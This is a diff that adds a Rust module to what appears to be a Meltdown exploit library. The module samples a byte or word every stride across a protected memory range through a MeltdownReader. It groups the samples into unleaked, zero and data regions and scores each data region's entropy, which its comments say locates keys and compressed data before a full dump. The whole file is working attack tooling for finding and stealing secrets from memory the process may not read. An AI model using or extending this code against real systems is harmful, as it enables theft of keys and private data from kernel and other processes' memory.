@@ -0,0 +1,131 @@
+//! Mapping a range too big to dump by leaking only a sample of it, a byte or
+//! a word every stride, to find where the interesting data is before
+//! dumping any of it in full.
+//!
+//! Samples are classed as zero, data, or not leaked at all, and runs of
+//! samples of the same class are merged into regions. The entropy of a data
+//! region's samples hints at what it holds: text and code sample well below
+//! 8 bits per byte, keys and compressed data close to it.
+
+use std::cmp::min;
+
+use entropy::shannon;
+use reader::MeltdownReader;
+use suppress::ExceptionSuppressor;
+
+/// The distance between samples unless told otherwise, a page.
+pub const DEFAULT_STRIDE: usize = 4096;
+
+/// What the samples of a region leaked.
+#[derive(Copy, Clone, Debug, PartialEq, Eq)]
+pub enum Class {
+    /// A byte of every sample didn't leak, e.g. because it isn't mapped.
+    Unleaked,
+    /// Every sample leaked as 0.
+    Zero,
+    /// Every sample leaked, and none of them was all 0.
+    Data,
+}
+
+/// A run of samples of the same class.
+#[derive(Clone, Debug, PartialEq)]
+pub struct Region {
+    pub addr: usize,
+    /// From the first sample to the stride after the last one, or the end of
+    /// the range.
+    pub len: usize,
+    pub class: Class,
+    pub samples: usize,
+    /// The entropy of the sampled bytes, in bits per byte, for data regions.
+    pub entropy: Option<f64>,
+}
+
+/// The regions of a range, in ascending order, found as the iterator is
+/// advanced. Returned by `survey`.
+pub struct Regions<'a, S: ExceptionSuppressor + 'a> {
+    reader: &'a MeltdownReader<S>,
+    stride: usize,
+    width: usize,
+    end: usize,
+    // the next sample, None once it is past the end
+    next_sample: Option<usize>,
+    // the region the last sample was part of, and its sampled bytes
+    current: Option<(Region, Vec<u8>)>,
+}
+
+/// Samples `width` bytes every `stride` bytes of the `len` bytes from
+/// `addr`. The stride can't be 0 or less than the width.
+pub fn survey<'a, S: ExceptionSuppressor>(
+    reader: &'a MeltdownReader<S>,
+    addr: usize,
+    len: usize,
+    stride: usize,
+    width: usize,
+) -> Regions<'a, S> {
+    assert!(width > 0 && stride >= width);
+    Regions {
+        reader,
+        stride,
+        width,
+        end: addr.saturating_add(len),
+        next_sample: Some(addr),
+        current: None,
+    }
+}
+
+// a region once it has all its samples
+fn close((mut region, bytes): (Region, Vec<u8>)) -> Region {
+    if region.class == Class::Data {
+        region.entropy = Some(shannon(&bytes))
+    }
+    region
+}
+
+impl<'a, S: ExceptionSuppressor> Iterator for Regions<'a, S> {
+    type Item = Region;
+
+    fn next(&mut self) -> Option<Region> {
+        loop {
+            let addr = match self.next_sample {
+                Some(addr) if addr < self.end => addr,
+                _ => return self.current.take().map(close),
+            };
+            self.next_sample = addr.checked_add(self.stride);
+            let width = min(self.width, self.end - addr);
+            let leaked = self.reader.read_range(addr as *const u8, width);
+            let class = if leaked.iter().any(|byte| byte.is_none()) {
+                Class::Unleaked
+            } else if leaked.iter().all(|&byte| byte == Some(0)) {
+                Class::Zero
+            } else {
+                Class::Data
+            };
+            let region_end = min(addr.saturating_add(self.stride), self.end);
+            let ended = match self.current {
+                Some((ref region, _)) if region.class != class => true,
+                _ => false,
+            };
+            let finished = if ended { self.current.take() } else { None };
+            if self.current.is_none() {
+                let region = Region {
+                    addr,
+                    len: 0,
+                    class,
+                    samples: 0,
+                    entropy: None,
+                };
+                self.current = Some((region, Vec::new()));
+            }
+            if let Some((ref mut region, ref mut bytes)) = self.current {
+                region.len = region_end - region.addr;
+                region.samples += 1;
+                if class == Class::Data {
+                    bytes.extend(leaked.iter().map(|byte| byte.unwrap()))
+                }
+            }
+            if let Some(finished) = finished {
+                return Some(close(finished));
+            }
+        }
+    }
+}